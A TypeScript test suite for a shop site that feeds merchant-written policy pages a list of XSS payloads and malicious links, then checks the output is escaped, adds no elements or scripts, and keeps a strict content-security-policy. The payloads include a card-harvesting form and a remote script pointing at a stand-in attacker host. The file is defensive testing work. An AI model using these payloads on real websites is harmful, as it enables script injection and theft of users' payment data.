import type { CallInput, CallOutput } from '@dasturxon/contract'
import { beforeAll, describe, expect, test } from 'vitest'
import { builtShops } from './test/built-shops.ts'
import { TEZ } from './test/shop.ts'

/** What a merchant, or whoever got hold of its files, may write into a text of the company. */
const NASTY = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">bos</a>',
  '<a href=" jaVa&#10;script:alert(1)">bos</a>',
  '<form action="https://evil.example"><input name=card><button>Pay</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<style>*{display:none}</style>',
  '<div style="position:fixed;inset:0" onclick="alert(1)">x</div>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '## <img src=x onerror=alert(1)>',
  '- <img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '{{constructor.constructor("alert(1)")()}}',
  '[bos](javascript:alert(1))',
  '\u202Etxet\u202C \u0000 \u2028 \u2029',
]

/** As a link: whole, in a sentence, and what only looks like one. */
const LINKS: [text: string, hrefs: string[]][] = [
  ['https://example.uz/oferta', ['https://example.uz/oferta']],
  [
    'Bizda (https://example.uz/a?b=1&c=2), va https://t.me/tez.',
    ['https://example.uz/a?b=1&c=2', 'https://t.me/tez'],
  ],
  ['- Qarang: https://example.uz/x', ['https://example.uz/x']],
  ['https://example.uz/"onmouseover="alert(1)', ['https://example.uz/']],
  ['https://example.uz/<script>alert(1)</script>', ['https://example.uz/']],
  ['http://example.uz', []],
  ['javascript:alert(1)//https://', []],
  ['data:text/html,<script>alert(1)</script>', []],
  ['https://bank.uz@evil.example/', []],
  ['https://localhost/', []],
  ['//evil.example', []],
]

const PATHS = { ABOUT_COMPANY: '/about', TERMS: '/offerta', PRIVACY_POLICY: '/privacy' } as const

const { open: openShop } = builtShops()
let shop: Awaited<ReturnType<typeof openShop>>
let text = ''
beforeAll(async () => {
  const policies = (input?: CallInput<'content.policies'>): CallOutput<'content.policies'> => [
    { type: input?.query.policies ?? 'TERMS', text: { uz: text, ru: text, eng: text } },
  ]
  shop = await openShop({ answers: { 'content.policies': policies } })
})

/** The page without the data that its scripts read, which is tried for itself below. */
async function open(path: string, written: string) {
  text = written
  shop.purge('')
  const { status, html, headers } = await shop.get(path, {
    cookie: `auth_${TEZ.id}=1; token_${TEZ.id}=nobody`,
  })
  expect(status).toBe(200)
  const [, main = ''] = /<main\b[^>]*>(.*)<\/main>/s.exec(html) ?? []
  return { html, main, policy: String(headers['content-security-policy']) }
}

const TEXT_LINK = /^<a href="https:[^"]*" target="_blank" rel="noreferrer noopener nofollow">$/
/** All elements but the links that web addresses become, tried for themselves below. */
const tagsOf = (html: string) =>
  [...html.matchAll(/<([a-z][\w-]*)\b([^>]*)>/gi)].map(([tag]) => tag).filter((tag) => !TEXT_LINK.test(tag))
const dataOf = (html: string) =>
  /<script type="application\/json"[^>]*>([^<]*)<\/script>/.exec(html)?.[1] ?? ''

describe('USR-4 a text of the company', () => {
  test.each(Object.entries(PATHS))('USR-4 %s at %s is shown as it was typed', async (_type, path) => {
    const { main } = await open(path, 'Salom <b>qalin</b> & dunyo')
    expect(main).toContain('Salom &lt;b&gt;qalin&lt;/b&gt; &amp; dunyo')
  })

  test.each(NASTY)('USR-4 brings no element, attribute or script of its own: %s', async (nasty) => {
    const plain = await open(
      PATHS.TERMS,
      nasty.startsWith('- ') ? '- soʻz' : nasty.startsWith('## ') ? '## soʻz' : 'soʻz',
    )
    const { html, main, policy } = await open(PATHS.TERMS, nasty)
    expect(tagsOf(main)).toEqual(tagsOf(plain.main))
    expect(html.match(/<script\b/g)).toHaveLength(plain.html.match(/<script\b/g)?.length ?? 0)
    // What the scripts read holds the whole text, and ends where it should.
    expect(JSON.stringify(JSON.parse(dataOf(html)))).toContain(JSON.stringify(nasty).slice(1, -1))
    expect(policy).toBe(plain.policy)
    expect(policy).not.toMatch(/script-src[^;]*unsafe/)
  })

  test.each(LINKS)(
    'USR-4 %s leads where it says, without knowing of us, or nowhere',
    async (written, hrefs) => {
      const { main } = await open(PATHS.TERMS, written)
      const links = [...main.matchAll(/<a\b[^>]*target="_blank"[^>]*>/g)].map(([tag]) => tag)
      expect(links.map((tag) => /href="([^"]*)"/.exec(tag)?.[1]?.replaceAll('&amp;', '&'))).toEqual(hrefs)
      for (const tag of links) expect(tag).toMatch(/rel="noreferrer noopener nofollow"/)
    },
  )
})
